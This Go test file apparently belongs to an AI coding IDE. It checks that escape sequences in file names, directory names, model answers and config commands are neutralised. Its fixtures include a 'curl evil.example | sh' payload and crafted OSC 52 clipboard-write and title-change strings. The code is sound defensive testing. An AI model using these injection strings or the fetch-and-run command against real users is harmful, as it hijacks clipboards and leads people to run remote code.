package e2e

import (
	"encoding/base64"
	"encoding/json"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/fawn-ide/fawn/internal/llmtest"
)

// sanitizePayload is what a hostile repository wants on the user's
// clipboard.
const sanitizePayload = "curl evil.example | sh"

// sanitizeName is a file name that, drawn raw, writes the clipboard (OSC
// 52), sets the window title (OSC 0) and clears the screen (CSI 2J).
func sanitizeName() string {
	b64 := base64.StdEncoding.EncodeToString([]byte(sanitizePayload))
	return "README\x1b]52;c;" + b64 + "\a\x1b]0;PWNED-TITLE\a\x1b[2J.md"
}

// sanitizeShown is how the start of the name must look on the screen: every
// control character as its control picture.
const sanitizeShown = "README␛]52;c;"

// sanitizeProject is a plain project (nothing to trust) holding the file.
func sanitizeProject(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, sanitizeName()), "harmless content\nline two\n")
	return dir
}

// sanitizeTerm starts fawn under a tmux that keeps what programs put on
// the clipboard (set-clipboard on), so a sequence that escaped to the
// terminal is seen.
func sanitizeTerm(t *testing.T, project string, args ...string) *Term {
	t.Helper()
	tm := Start(t, 150, 42, project, nil, args...)
	tm.tmux("set-option", "-g", "set-clipboard", "on")
	return tm
}

// sanitizeEscaped says what of the sequences reached the terminal fawn
// runs in: a clipboard write (a tmux buffer) or a new title.
func sanitizeEscaped(tm *Term) string {
	var got []string
	out, _ := exec.Command("tmux", "-S", tm.socket, "list-buffers", "-F", "#{buffer_sample}").CombinedOutput()
	if strings.Contains(string(out), "curl") || strings.Contains(string(out), "evil") {
		got = append(got, "the clipboard was written: tmux buffers "+strings.TrimSpace(string(out)))
	}
	if title := sanitizeTitle(tm); strings.Contains(title, "PWNED") {
		got = append(got, "the title became "+title)
	}
	return strings.Join(got, "; ")
}

// sanitizeWaitDrawn waits until the screen shows every want, or until a
// sequence escaped to the terminal, and fails in the second case (or when
// the screen and the escape both happened).
func sanitizeWaitDrawn(t *testing.T, tm *Term, want ...string) {
	t.Helper()
	tm.WaitUntil(strings.Join(want, " & ")+", or an escape", func(s string) bool {
		if sanitizeEscaped(tm) != "" {
			return true
		}
		for _, w := range want {
			if !strings.Contains(s, w) {
				return false
			}
		}
		return true
	})
	if esc := sanitizeEscaped(tm); esc != "" {
		t.Fatalf("escape sequences from the project or the model reached the terminal: %s\n%s", esc, tm.Screen())
	}
}

// Finding 4: a file whose name holds escape sequences, opened by the
// agent's view (no permission asked), shows them as control pictures in the
// chat and the tab; the terminal gets no clipboard write and no title.
func TestHostileSanitizeFileNameViewedByTheAgent(t *testing.T) {
	project := sanitizeProject(t)
	args, err := json.Marshal(map[string]string{"command": "view", "path": sanitizeName()})
	if err != nil {
		t.Fatal(err)
	}
	srv := llmtest.Start(t, llmtest.Script{Responses: []llmtest.Response{
		{Text: "Looking.", ToolCalls: []llmtest.ToolCall{call("text_editor", string(args))}},
		{Text: "Seen it."},
	}})
	tm := sanitizeTerm(t, project, "--base-url", srv.URL(), "--model", "scripted")
	tm.WaitFor("Ask fawn")
	tm.prompt("look at the readme")
	sanitizeWaitDrawn(t, tm, "Seen it.", "harmless content", sanitizeShown)
}

// Finding 4 by hand: the same file found with Ctrl-P and opened.
func TestHostileSanitizeFileNameOpenedWithCtrlP(t *testing.T) {
	project := sanitizeProject(t)
	tm := sanitizeTerm(t, project)
	tm.WaitFor("Ask fawn")
	tm.Keys("C-p")
	sanitizeWaitDrawn(t, tm, sanitizeShown) // the finder's list
	tm.Type("README")
	tm.Keys("Enter")
	sanitizeWaitDrawn(t, tm, "harmless content", sanitizeShown)
}

// sanitizeAnswer is a model's answer that, printed raw, writes the
// clipboard and sets the title.
func sanitizeAnswer() string {
	b64 := base64.StdEncoding.EncodeToString([]byte(sanitizePayload))
	return "Here: \x1b]52;c;" + b64 + "\a\x1b]0;PWNED-TITLE\a\u009b2J done."
}

// Headless on a terminal: the answer printed on stdout shows its control
// characters and does not reach the terminal as sequences; into a pipe it
// is the model's text, byte for byte (data for the program reading it).
func TestHostileSanitizeHeadlessAnswer(t *testing.T) {
	script := llmtest.Script{Loop: true, Responses: []llmtest.Response{{Text: sanitizeAnswer()}}}
	srv := llmtest.Start(t, script)
	project := sanitizeProject(t)
	tm := sanitizeTerm(t, project, "--base-url", srv.URL(), "--model", "scripted", "-p", "answer")
	sanitizeWaitDrawn(t, tm, "fawn-exited-0", "Here: ␛]52;c;", "␇␛]0;PWNED-TITLE␇<U+009B>2J done.")

	out, errs, code := runHeadless(t, srv, project, "-p", "answer")
	if code != 0 || strings.TrimSpace(out) != sanitizeAnswer() {
		t.Fatalf("into a pipe: exit %d, stdout %q (want the answer as it is), stderr %s", code, out, errs)
	}
}

// A project whose directory's name holds OSC 52 and CSI 2J: fawn's window
// title names the project with the sequences shown, and they reach the
// terminal neither from the title nor from anywhere the name is drawn.
func TestHostileSanitizeProjectDirectoryName(t *testing.T) {
	b64 := base64.StdEncoding.EncodeToString([]byte(sanitizePayload))
	base := "proj\x1b]52;c;" + b64 + "\a\x1b[2J"
	dir := filepath.Join(t.TempDir(), base)
	writeFile(t, filepath.Join(dir, "README.md"), "# Widget\n")
	tm := sanitizeTerm(t, dir)
	sanitizeWaitDrawn(t, tm, "Ask fawn")
	want := "fawn — proj␛]52;c;" + b64 + "␇␛[2J"
	tm.WaitUntil("the title "+want, func(string) bool { return sanitizeTitle(tm) == want })
	if esc := sanitizeEscaped(tm); esc != "" {
		t.Fatalf("the directory's name reached the terminal: %s", esc)
	}
}

func sanitizeTitle(tm *Term) string {
	out, _ := exec.Command("tmux", "-S", tm.socket, "display-message", "-p", "-t", tm.name, "#{pane_title}").CombinedOutput()
	return strings.TrimSpace(string(out))
}

// The trust prompt of a project whose MCP server's command holds the
// sequences shows them, and declined ("n", not now), the IDE opens and
// shows the agent's view of the file as safely as before.
func TestHostileSanitizeTrustPromptDeclined(t *testing.T) {
	project := sanitizeProject(t)
	b64 := base64.StdEncoding.EncodeToString([]byte(sanitizePayload))
	writeFile(t, filepath.Join(project, ".fawn", "config.yaml"),
		"tools:\n  mcp_servers:\n    x:\n      command: sh\n      args: [\"-c\", \"true \\e]52;c;"+b64+"\\a\\e]0;PWNED-TITLE\\a\"]\n")
	args, err := json.Marshal(map[string]string{"command": "view", "path": sanitizeName()})
	if err != nil {
		t.Fatal(err)
	}
	srv := llmtest.Start(t, llmtest.Script{Responses: []llmtest.Response{
		{Text: "Looking.", ToolCalls: []llmtest.ToolCall{call("text_editor", string(args))}},
		{Text: "Seen it."},
	}})
	tm := sanitizeTerm(t, project, "--base-url", srv.URL(), "--model", "scripted")
	sanitizeWaitDrawn(t, tm, "Trust this folder?", "true ␛]52;c;")
	tm.Keys("n")
	tm.WaitFor("Ask fawn")
	tm.prompt("look at the readme")
	sanitizeWaitDrawn(t, tm, "Seen it.", "harmless content", sanitizeShown)
}
